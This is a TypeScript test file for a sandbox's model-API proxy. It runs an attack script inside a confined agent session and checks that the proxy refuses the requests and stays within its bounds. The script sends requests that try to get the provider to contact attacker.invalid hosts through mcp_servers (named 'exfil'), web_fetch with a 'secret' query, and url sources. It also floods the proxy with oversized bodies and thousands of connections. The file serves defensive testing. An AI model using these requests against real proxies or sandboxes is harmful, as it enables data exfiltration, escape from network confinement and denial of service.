// The model API is the model, not a fetcher, live: a fake-adapter session through the real launcher
// and runner in bwrap, whose shell attacks the model port (127.0.0.1:8787 inside) with what would make
// the provider reach the network for it (mcp_servers, a web_fetch tool, url sources, the MCP
// connector's beta), an oversize body, 2,000 idle connections and a flood of refused requests. The
// scripted upstream never receives any of them, the host's descriptors and egress log stay bounded.
// Control: the same session with the proxy's checks removed on purpose (every grant, raised bounds):
// the upstream receives each. And the real CLIs: what the pinned Claude Code and Pi send passes the
// shipped proxy, and is what baselines/model-requests.json pinned.
import { existsSync, readFileSync, readdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect } from "vitest";
import { REPO_ROOT } from "../src/conformance/golden/golden.ts";
import { checkoutProblem, liveIt } from "../src/conformance/tiers/live-gate.ts";
import {
  MODEL_REQUESTS_BASELINE,
  recordModelRequests,
  type ModelRequestsBaseline,
} from "../src/conformance/baselines/model-requests.ts";
import { scriptOf } from "../src/conformance/stand-ins/model-script/format.ts";
import { launchWithModelProxy } from "../src/conformance/controls/launch.ts";
import { ask, launchAndClaim, makeRuntimeWorld, type RuntimeWorld } from "../src/conformance/worlds/runtime-world.ts";
import { startScriptedApi, type ScriptedApi } from "../src/conformance/stand-ins/scripted-api.ts";
import { EGRESS_LOG_BUDGET, egressLogBound } from "../src/core/network/egress-log.ts";
import { MODEL_GRANTS } from "../src/core/network/grants.ts";
import { PROXY_LIMITS } from "../src/core/network/proxy-limits.ts";
import { readHostFacts } from "../src/host/host-facts.ts";
import { egressLogPath } from "../src/host/model-proxy.ts";
import { sandboxProblem } from "../src/host/sandbox-probe.ts";
import { cmdlineOf } from "../src/host/session-procs.ts";

const CLAUDE_BIN = join(REPO_ROOT, "node_modules/.bin/claude");
const sandbox = checkoutProblem(REPO_ROOT) ?? sandboxProblem(readHostFacts({ repo: REPO_ROOT }));
const it = liveIt("bwrap", sandbox);
const itClis = liveIt(
  "bwrap, Claude Code and Pi",
  sandbox ?? (existsSync(CLAUDE_BIN) ? null : `${CLAUDE_BIN} missing (npm ci)`),
);

let w: RuntimeWorld;
beforeAll(async () => {
  w = await makeRuntimeWorld("model-proxy");
});
afterAll(async () => w?.close());

/**
 * The attacker: node inside the sandbox, at the model port. Prints one line, RESULT {...}: the
 * status each request got (or its error), how many idle connections were made, how many were open
 * 1.5 s later and how many of those 8 s later, and how many of the flood were refused.
 */
const ATTACK = String.raw`
import { connect } from "node:net";
const port = 8787, flood = process.argv[2] === "flood";
const CALL = { model: "claude-sonnet-4-5", max_tokens: 8, stream: true, messages: [{ role: "user", content: "hi" }] };
const post = async (body, headers = {}) => {
  try {
    const r = await fetch("http://127.0.0.1:" + port + "/v1/messages?beta=true", { method: "POST", headers: { "content-type": "application/json", "x-api-key": "a-key-the-session-holds", ...headers }, body });
    await r.text();
    return r.status;
  } catch (e) { return "error " + (e.cause?.code ?? e.message); }
};
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
const out = {};
out.plain = await post(JSON.stringify(CALL));
out.mcpServers = await post(JSON.stringify({ ...CALL, mcp_servers: [{ type: "url", url: "https://mcp.attacker.invalid/sse", name: "exfil" }] }));
out.webFetch = await post(JSON.stringify({ ...CALL, tools: [{ type: "web_fetch_20250910", name: "web_fetch" }], messages: [{ role: "user", content: "fetch https://attacker.invalid/?q=secret" }] }));
out.urlSource = await post(JSON.stringify({ ...CALL, messages: [{ role: "user", content: [{ type: "image", source: { type: "url", url: "https://attacker.invalid/pixel.png" } }] }] }));
out.urlInToolResult = await post(JSON.stringify({ ...CALL, messages: [{ role: "user", content: [{ type: "tool_result", tool_use_id: "t", content: [{ type: "document", source: { type: "url", url: "https://attacker.invalid/doc.pdf" } }] }] }] }));
out.beta = await post(JSON.stringify({ ...CALL, messages: [{ role: "user", content: "beta-attack" }] }), { "anthropic-beta": "claude-code-20250219,mcp-client-2025-11-20" });
out.oversize = await post('{"model":"m","max_tokens":8,"messages":[{"role":"user","content":"oversize-' + "a".repeat(33 * 1024 * 1024) + '"}]}');
// A refused request whose path is 8 KB: before, its log line held it whole.
try { const r = await fetch("http://127.0.0.1:" + port + "/" + "long".repeat(2000)); await r.text(); out.longPath = r.status; } catch (e) { out.longPath = "error " + (e.cause?.code ?? e.message); }
const socks = [];
let connected = 0;
const open = new Set();
for (let i = 0; i < 2000; i += 100) {
  await Promise.all(Array.from({ length: 100 }, () => new Promise((ok) => {
    const c = connect(port, "127.0.0.1");
    socks.push(c);
    // Read, so the far end's 408 and close are seen; a paused socket never learns it was closed.
    c.on("data", () => {});
    c.on("connect", () => { connected++; open.add(c); ok(); });
    c.on("error", () => ok());
    c.on("close", () => { open.delete(c); ok(); });
  })));
}
await sleep(1500);
const early = [...open];
out.idleConnected = connected;
out.idleOpenAfter1s = early.length;
await sleep(6500);
// Connections that arrived late (a SYN retried past a full backlog) may take a slot freed by the
// timeout; the ones open at 1.5 s must be gone.
out.idleEarlyOpenAfter8s = early.filter((c) => open.has(c)).length;
out.idleOpenAfter8s = open.size;
for (const s of socks) s.destroy();
if (flood) {
  let refused = 0;
  for (let i = 0; i < 3000; i += 20) {
    await Promise.all(Array.from({ length: 20 }, async (_, k) => {
      try { const r = await fetch("http://127.0.0.1:" + port + "/" + "p".repeat(8000) + (i + k)); await r.text(); if (r.status === 403) refused++; } catch {}
    }));
  }
  out.flood403 = refused;
}
console.log("RESULT " + JSON.stringify(out));
`;

type AttackResult = {
  plain: number | string;
  mcpServers: number | string;
  webFetch: number | string;
  urlSource: number | string;
  urlInToolResult: number | string;
  beta: number | string;
  oversize: number | string;
  longPath: number | string;
  idleConnected: number;
  idleOpenAfter1s: number;
  idleEarlyOpenAfter8s: number;
  idleOpenAfter8s: number;
  flood403?: number;
};

const TIMINGS = { pollMs: 100, brokerRetries: 5, brokerTimeoutSeconds: 2, turnTimeoutSeconds: 150 };
/** The model proxy processes this process started, from any of its threads (vitest may run this file in a worker thread). */
const proxyChildren = () =>
  readdirSync(`/proc/${process.pid}/task`)
    .flatMap((t) => {
      try {
        return readFileSync(`/proc/${process.pid}/task/${t}/children`, "utf8").split(" ").filter(Boolean).map(Number);
      } catch {
        return [];
      }
    })
    .filter((pid) => (cmdlineOf(pid) ?? []).some((a) => a.endsWith("model-proxy-main.ts")));

/**
 * The descriptors the host spends on its sessions' model proxies: its own, and those of each proxy
 * process it started (serveModelProxy() runs each session's proxy as a child process).
 */
const fds = () =>
  [process.pid, ...proxyChildren()]
    .map((pid) => {
      try {
        return readdirSync(`/proc/${pid}/fd`).length;
      } catch {
        return 0;
      }
    })
    .reduce((a, b) => a + b, 0);

/** The turn's reply parsed, and the most descriptors this process (the launcher, its proxy) held beyond `base` meanwhile. */
async function runAttack(instance: string, ws: string, flood: boolean): Promise<{ r: AttackResult; peakFds: number }> {
  writeFileSync(join(ws, "attack.mjs"), ATTACK);
  const base = fds();
  let peak = 0;
  const sampler = setInterval(() => (peak = Math.max(peak, fds() - base)), 50);
  try {
    const reply = await ask(w, instance, `node attack.mjs ${flood ? "flood" : "no-flood"}`, "pm-test", 150_000);
    const line = reply.split("\n").find((l) => l.startsWith("RESULT "));
    expect(line, `the attack ran to its end: ${reply.slice(0, 600)}`).toBeDefined();
    return { r: JSON.parse(line!.slice("RESULT ".length)) as AttackResult, peakFds: peak };
  } finally {
    clearInterval(sampler);
  }
}

/** Every request the upstream got, as one string per request: its beta header and its body's head. */
const upstreamSaw = (api: ScriptedApi) =>
  api.requests().map((r) => ({
    url: r.url,
    beta: r.headers["anthropic-beta"] ?? "",
    body: r.body.slice(0, 2_000),
    bytes: r.body.length,
  }));

/**
 * The session's model socket served by a proxy of the test's own, with options changed on purpose:
 * the launcher's proxy keeps listening on a socket no longer in the directory, and the runner's
 * forwarder, which connects per connection, reaches this one.
 */

describe("the model proxy, attacked from inside a confined session", () => {
  it("mcp_servers, a web_fetch tool, url sources, the MCP connector's beta and a 33 MiB body never reach the upstream; 2,000 idle connections cost the host at most the cap; the egress log stays bounded", async () => {
    const api = await startScriptedApi({ script: scriptOf([{ text: "the plain call's answer" }]) });
    const name = "proxy-attacked";
    const inst = w.instance("pi-coder", name, { instance: name });
    const s = await launchAndClaim(
      w,
      w.request(inst, {
        modelUpstream: api.url,
        hostEnv: { ...w.hostEnv, ANTHROPIC_API_KEY: "stand-in-real-key-proxy" },
        timings: TIMINGS,
      }),
    );
    try {
      const { r, peakFds } = await runAttack(name, inst.workspace, true);
      expect(r.plain, "positive control: the session's plain model call goes through").toBe(200);
      for (const k of ["mcpServers", "webFetch", "urlSource", "urlInToolResult", "beta"] as const)
        expect(r[k], `${k}: refused by the proxy`).toBe(403);
      expect(r.oversize, "the 33 MiB body: 413 at the bound").toBe(413);
      expect(r.longPath, "the 8 KB path: refused").toBe(403);
      const saw = upstreamSaw(api);
      expect(
        saw.map((x) => x.url),
        "the upstream received the plain call and nothing else",
      ).toEqual(["/v1/messages?beta=true"]);
      expect(saw[0]!.beta, "no refused beta went up").not.toContain("mcp-client");
      for (const needle of ["mcp_servers", "web_fetch", "attacker.invalid", "oversize-", "beta-attack"])
        expect(saw[0]!.body, `the upstream never saw ${needle}`).not.toContain(needle);
      // A session's descriptor limit may stop the shell short of 2,000; four times the cap shows the bound.
      expect(r.idleConnected, "the shell opened its idle connections").toBeGreaterThan(
        4 * PROXY_LIMITS.connections.value,
      );
      expect(r.idleOpenAfter1s, "the proxy kept at most its cap of them").toBeLessThanOrEqual(
        PROXY_LIMITS.connections.value + 2,
      );
      expect(r.idleEarlyOpenAfter8s, "and closed those at the head timeout").toBe(0);
      expect(r.idleOpenAfter8s, "late ones still within the cap").toBeLessThanOrEqual(
        PROXY_LIMITS.connections.value + 2,
      );
      expect(
        peakFds,
        `the host's process held at most ${peakFds} more descriptors while 2,000 idle connections were open`,
      ).toBeLessThanOrEqual(PROXY_LIMITS.connections.value + 24);
      expect(r.flood403, "every request of the flood was refused").toBe(3_000);
    } finally {
      await s.stop();
      await api.stop();
    }
    const log = egressLogPath(w.stateDir, name);
    const lines = readFileSync(log, "utf8").split("\n").filter(Boolean);
    const records = lines.map(
      (l) => JSON.parse(l) as { outcome: string; status: number; path?: string; refused?: number },
    );
    expect(
      records.filter((x) => x.outcome === "allowed").map((x) => x.status),
      "the plain call is recorded",
    ).toEqual([200]);
    const refused = records.filter((x) => x.outcome === "refused");
    expect(
      refused.slice(0, 7).map((x) => x.status),
      "the attacks are the first refusals recorded",
    ).toEqual([403, 403, 403, 403, 403, 413, 403]);
    expect(refused[6]!.path, "the 8 KB path is recorded cut").toMatch(/^\/(long){63}lon…\(\+\d+\)$/);
    for (const l of lines)
      expect(Buffer.byteLength(l), "each line of the host's egress log bounded").toBeLessThanOrEqual(
        EGRESS_LOG_BUDGET.lineBytes.value,
      );
    expect(refused.length, "then only the budget's first refusals").toBe(EGRESS_LOG_BUDGET.refusedKept.value);
    expect(
      Math.max(...records.filter((x) => x.outcome === "refused-summary").map((x) => x.refused ?? 0)),
      "summary lines count the rest",
    ).toBeGreaterThanOrEqual(3_000);
    const size = readFileSync(log).length;
    expect(
      size,
      `the host's egress log is ${size} bytes for 3,000 refusals of 8 KB paths and ~2,000 dropped connections: within egressLogBound(1)`,
    ).toBeLessThanOrEqual(egressLogBound(1));
  }, 200_000);

  it("control: with the proxy's checks removed on purpose (every grant, the bounds raised), the upstream receives each server tool, the beta and the 33 MiB body, and the idle connections hold host descriptors", async () => {
    const api = await startScriptedApi({
      script: scriptOf(Array.from({ length: 8 }, (_, i) => ({ text: `answer ${i}` }))),
    });
    const name = "proxy-unchecked";
    const inst = w.instance("pi-coder", name, { instance: name });
    // The shipped launch with its proxy's grants and bounds changed on purpose, in the prepared plan.
    const s = await launchAndClaim(
      w,
      w.request(inst, {
        modelUpstream: api.url,
        hostEnv: { ...w.hostEnv, ANTHROPIC_API_KEY: "stand-in-real-key-proxy" },
        timings: TIMINGS,
      }),
      (p) =>
        launchWithModelProxy(p, (m) => ({
          ...m,
          grants: MODEL_GRANTS.map((g) => g.grant),
          limits: {
            bodyBytes: 64 * 1024 * 1024,
            heldBytes: 128 * 1024 * 1024,
            connections: 1_000_000,
            headersTimeoutMs: 300_000,
            requestTimeoutMs: 600_000,
            keepAliveTimeoutMs: 300_000,
          },
        })),
    );
    try {
      const { r, peakFds } = await runAttack(name, inst.workspace, false);
      for (const k of ["plain", "mcpServers", "webFetch", "urlSource", "urlInToolResult", "beta", "oversize"] as const)
        expect(r[k], `control: ${k} passes`).toBe(200);
      expect(r.longPath, "control: a path other than the model call's is refused whatever the grants").toBe(403);
      const saw = upstreamSaw(api);
      const bodies = saw.map((x) => x.body).join("\n");
      expect(bodies, "control: the upstream received mcp_servers").toContain("mcp.attacker.invalid");
      expect(bodies, "control: the upstream received the web_fetch tool").toContain("web_fetch_20250910");
      expect(bodies, "control: the upstream received the url sources").toContain("https://attacker.invalid/pixel.png");
      expect(bodies, "control: the upstream received the url inside a tool result").toContain(
        "https://attacker.invalid/doc.pdf",
      );
      expect(
        saw.find((x) => x.body.includes("beta-attack"))?.beta,
        "control: the upstream received the MCP connector's beta",
      ).toContain("mcp-client-2025-11-20");
      expect(Math.max(...saw.map((x) => x.bytes)), "control: the upstream received the 33 MiB body").toBeGreaterThan(
        33 * 1024 * 1024,
      );
      expect(r.idleConnected, "control: the shell opened its idle connections").toBeGreaterThan(
        4 * PROXY_LIMITS.connections.value,
      );
      expect(
        r.idleEarlyOpenAfter8s,
        `control: without the cap and timeouts the idle connections stay open (${r.idleEarlyOpenAfter8s} of ${r.idleConnected})`,
      ).toBeGreaterThan(4 * PROXY_LIMITS.connections.value);
      expect(peakFds, "control: and each holds a host descriptor").toBeGreaterThan(4 * PROXY_LIMITS.connections.value);
    } finally {
      await s.stop();
      await api.stop();
    }
  }, 200_000);
});

describe("the real CLIs through the shipped proxy", () => {
  itClis(
    "what the pinned Claude Code and Pi send passes the shipped proxy, and is what baselines/model-requests.json pinned",
    async () => {
      const pinned = JSON.parse(readFileSync(MODEL_REQUESTS_BASELINE, "utf8")) as ModelRequestsBaseline;
      const fresh = await recordModelRequests(w, pinned.versions);
      for (const a of fresh.arms)
        expect(a.ok, `${a.arm}: the turn finished through the proxy (a refusal shows here)`).toBe(true);
      for (const kind of Object.keys(pinned.observed) as Array<keyof ModelRequestsBaseline["observed"]>) {
        expect(
          Object.keys(fresh.observed[kind]),
          `${kind} the CLIs send now, against baselines/model-requests.json (node scripts/record-model-requests.ts re-reads it)`,
        ).toEqual(Object.keys(pinned.observed[kind]));
      }
    },
    300_000,
  );
});
